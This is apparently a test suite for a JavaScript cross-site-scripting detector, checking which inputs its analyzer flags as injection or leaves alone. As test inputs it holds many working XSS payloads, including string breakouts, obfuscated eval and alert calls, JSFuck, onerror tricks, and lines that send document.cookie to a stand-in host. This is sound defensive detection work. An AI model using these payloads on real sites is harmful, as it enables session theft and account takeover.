import { describe, expect, test } from "bun:test";
import { checkJs } from "../../../src/detect/analyzers/js/check.ts";
import { lexJs } from "../../../src/detect/analyzers/js/lexer.ts";

const constructs = (text: string, ctx: "script" | "bare" = "bare") => checkJs(text, 0, text.length, ctx).map((h) => h.construct);
const top = (text: string, ctx: "script" | "bare" = "bare") => checkJs(text, 0, text.length, ctx).reduce((m, h) => Math.max(m, h.strength), 0);

describe("js lexer", () => {
  test("identifiers and strings carry their decoded value", () => {
    const t = lexJs("\\u0061lert('\\x61\\u{62}\\143')");
    expect(t[0]!.value).toBe("alert");
    expect(t[2]!.value).toBe("abc");
  });
  test("an unterminated string, regex or comment never throws", () => {
    for (const s of ["'abc", "/abc", "/* x", "`x${", "\\u{zz"]) expect(() => lexJs(s)).not.toThrow();
  });
});

describe("js check", () => {
  test("a bare call of a dialog is a sign; after closing a string it is an injection", () => {
    expect(top("alert(1)")).toBeLessThan(0.8);
    expect(top("';alert(1)//")).toBeGreaterThanOrEqual(0.8);
    expect(top('"-alert(1)-"')).toBeGreaterThanOrEqual(0.8);
  });
  test("in a script context any dialog or eval call is script", () => {
    expect(top("alert(1)", "script")).toBeGreaterThanOrEqual(0.9);
    expect(top("eval(atob('YWxlcnQoMSk='))", "script")).toBeGreaterThanOrEqual(0.9);
  });
  test("a computed key that folds to a sensitive name is found however it is built", () => {
    for (const s of ["x['\\x65val'](1)", "self[String.fromCharCode(97,108,101,114,116)](1)", "parent[unescape('%61lert')](1)", "(window)[`con`+`firm`]``"]) {
      expect(top(s)).toBeGreaterThanOrEqual(0.85);
    }
  });
  test("functions made from strings and called", () => {
    expect(constructs("Function('alert(1)')()")).toContain("function-constructor");
    expect(constructs("[].constructor.constructor('x')()")).toContain("constructor-call");
    expect(constructs("setTimeout('alert(1)',1)")).toContain("eval-call");
    expect(constructs("setTimeout(function(){},1)")).not.toContain("eval-call");
    expect(constructs("eval.call(this, x)")).toContain("eval-call");
  });
  test("ordinary code finds nothing", () => {
    for (const s of ["console.log(a[0])", "x = foo(bar)", "f()()()", "obj['name'](1)", "styled.div`color: red`"]) expect(constructs(s)).toEqual([]);
  });
  test("JSFuck-like runs", () => {
    expect(constructs("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]")).toContain("jsfuck");
    expect(constructs("[1,2] (a) !b + [c]")).not.toContain("jsfuck");
  });
  test("an alias made in the value hides the function it names", () => {
    expect(top("a=eval;b=alert;a(b(1))")).toBeGreaterThanOrEqual(0.85);
    expect(top("_=eval,__=unescape,_(__(x))")).toBeGreaterThanOrEqual(0.85);
    expect(top("log=console.log;log(1)")).toBe(0);
  });
  test("code built from the URL or the window's name is DOM XSS", () => {
    expect(top("eval(location.hash.slice(1))")).toBeGreaterThanOrEqual(0.85);
    expect(top("setTimeout(name, 1)")).toBeGreaterThanOrEqual(0.85);
    expect(top("eval(expression)")).toBeLessThan(0.8);
  });
  test("calls without parentheses through a tagged template", () => {
    expect(top("Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`")).toBeGreaterThanOrEqual(0.8);
    expect(top("html`<b>${x}</b>`")).toBe(0);
  });
  test("keys built from regex sources and jQuery's globalEval", () => {
    expect(top("top[/al/.source+/ert/.source](1)")).toBeGreaterThanOrEqual(0.85);
    expect(top('self["$"]["globalEval"]("alert(1)")')).toBeGreaterThanOrEqual(0.85);
  });
  test("closing a comment the value was placed in is a breakout; a CR ends a line comment", () => {
    expect(top("*/alert(1)/*")).toBeGreaterThanOrEqual(0.8);
    expect(lexJs("//c\rx").map((t) => t.value)).toEqual(["x"]);
  });
  test("a long value is read around its candidates, wherever they are", () => {
    expect(top(`'${" ".repeat(5000)};alert(1)//`)).toBeGreaterThanOrEqual(0.8);
    expect(top(`${"Please confirm your location. ".repeat(40_000)}x['al'+'ert'](1)`)).toBeGreaterThanOrEqual(0.85);
    expect(top("Please confirm your location. ".repeat(40_000))).toBe(0);
    expect(top(`${"x ".repeat(1000)}self /*a*/ [ /*b*/ "alert"]("xss")`)).toBeGreaterThanOrEqual(0.85);
  });
  test("a short statement, a call and the rest commented out is a breakout of an unquoted context", () => {
    expect(top("7;alert(1)//x")).toBeGreaterThanOrEqual(0.8);
    expect(top("}prompt(2);{//")).toBeGreaterThanOrEqual(0.8);
    expect(top("ok; alert(1) then more")).toBeLessThan(0.8);
    expect(top("x=1;y=2;z=3;eval(code) // run it")).toBeLessThan(0.8);
  });
  test("a dialog showing the page's secrets is the classic proof; a path is not a regex with flags", () => {
    expect(top("alert(document.cookie)")).toBeGreaterThanOrEqual(0.8);
    expect(top("alert(document.title)")).toBeLessThan(0.8);
    expect(constructs("/app/setTimeout(location.hash.slice(1))")).toContain("eval-call");
    expect(lexJs("/ab/gi.test(x)")[0]!.type).toBe("regex");
  });
  test("a dialog handed to a method is more than a word in parentheses, still not proof", () => {
    expect(top("[1].find(alert)")).toBeGreaterThan(top("raise the (alert) level"));
    expect(top("[1].find(alert)")).toBeLessThan(0.8);
  });
  test("a dialog handed to the error handler is found in a block as after a statement", () => {
    for (const v of ["onerror=alert;throw 1", "{onerror=alert}throw 1337", "{onerror=eval}throw'=alert\\x281\\x29'"]) expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["function-reference"])]);
    expect(top("{onerror=alert}throw 1337")).toBe(top("onerror=alert;throw 1"));
    // A module's import or export list names them without handing them anywhere.
    for (const v of ['import { input, confirm } from "@inquirer/prompts"', "export { prompt, confirm }"]) expect([v, constructs(v)]).toEqual([v, []]);
  });
  test("long chains of calls stay linear", () => {
    expect(constructs("f()".repeat(200_000) + ";';alert(1)//")).toContain("dialog-call");
  });

  test("the page's cookie sent off the page is stealing it; a plain read is not", () => {
    const sent = [
      'new Image().src="//e.example/?c="+document.cookie',
      "fetch('//e.example/?c='+encodeURIComponent(document.cookie))",
      'navigator.sendBeacon("//e.example",document.cookie)',
      "fetch(`https://e.example/${document.cookie}`)",
      "img.src = u + document.cookie",
      "$.post('/x', {c: document.cookie})",
      // Kept in a name first, then sent.
      'c=document.cookie;new Image().src="//e.example/?"+c',
      "var x = document.cookie; fetch(`//e.example/?c=${x}`)",
      "let k=document.cookie;navigator.sendBeacon('//e.example',k)",
      "x=document.cookie;fetch(`//e.example/?c=${ x }`)",
    ];
    for (const v of sent) {
      expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["cookie-exfiltration"])]);
      expect(top(v)).toBeGreaterThanOrEqual(0.7);
    }
    // Reads, a condition before a redirect, a word that names a sending call, a template that is no address.
    const kept = [
      "var c = document.cookie;",
      "x = document.cookie.indexOf('lang=') > -1 ? 'a' : '/en/'",
      "if (!document.cookie) location.href = '/login';",
      "var open = true, c = document.cookie",
      "console.log(`cookies? ${document.cookie}`)",
      // Kept in a name that is only read, or whose namesake member is sent.
      "var c = document.cookie; if (c) location.href = '/home'",
      "c = document.cookie; fetch('/log?c=' + o.c)",
    ];
    for (const v of kept) expect([v, constructs(v)]).toEqual([v, expect.not.arrayContaining(["cookie-exfiltration"])]);
  });

  test("a template literal's substitutions are code", () => {
    expect(constructs("x=`${alert(1)}`")).toContain("dialog-call");
    expect(top("';`${alert(document.cookie)}`//")).toBeGreaterThanOrEqual(0.9);
    // A brace inside a string does not end the substitution.
    expect(constructs('x=`${"}",alert(1)}`')).toContain("dialog-call");
    expect(constructs("`${a}${b} and ${c}`")).toEqual([]);
  });

  test("templates an escaped backtick opens inside a substitution are read once: linear, and what comes before is still found", () => {
    const chain = "`" + "${\\`alert(1)".repeat(20_000);
    expect(() => checkJs(chain, 0, chain.length, "bare")).not.toThrow();
    const script = "`" + "${\\`".repeat(20_000);
    expect(() => checkJs(script, 0, script.length, "script")).not.toThrow();
    const value = `';alert(document.cookie)// ${chain}`;
    expect(constructs(value)).toContain("dialog-call");
    expect(constructs(`x=\`${"${a}".repeat(100_000)}\${alert(1)}\``)).toContain("dialog-call");
  });

  test("a block comment between a name and its call or member is a space, as JavaScript reads it", () => {
    for (const v of ['";alert/*x*/(1)//', "';alert /* y */ (1);//", "';x=document/*a*/.cookie;//"]) expect(top(v)).toBeGreaterThanOrEqual(0.7);
    expect(top("alert/*x*/(1)")).toBeLessThan(0.8);
    // Comments are stepped over only up to a bound: a megabyte of unclosed ones stays linear and quiet.
    expect(top("alert/*".repeat(150_000))).toBe(0);
  });

  test("a name glued to a word before it on the same line is no call: a stack frame or prose, which never parses", () => {
    for (const v of ["TypeError: a is undefined\n    at eval (<anonymous>)", "at eval (https://www.example.com/js/app.js:1:234)", "at eval (eval at <anonymous> (https://www.example.com/app.js:1:2), <anonymous>:1:1)", "at setTimeout (native)", "please confirm (yes/no)"]) {
      expect([v, top(v)]).toEqual([v, 0]);
    }
    // After a keyword that takes an expression, or on a line of its own, it is still the call.
    for (const v of ["';return eval(name)//", "';else alert(1)//", "';typeof alert(1)//", "x\nalert(1)"]) expect([v, top(v) > 0]).toEqual([v, true]);
    expect(top("';alert(1)//")).toBeGreaterThanOrEqual(0.8);
    expect(top("at\neval(location.hash.slice(1))")).toBeGreaterThanOrEqual(0.85);
    expect(top("at eval(1)", "script")).toBe(0);
    // A megabyte of glued names stays linear.
    expect(top("at eval (x) ".repeat(90_000))).toBe(0);
  });
});
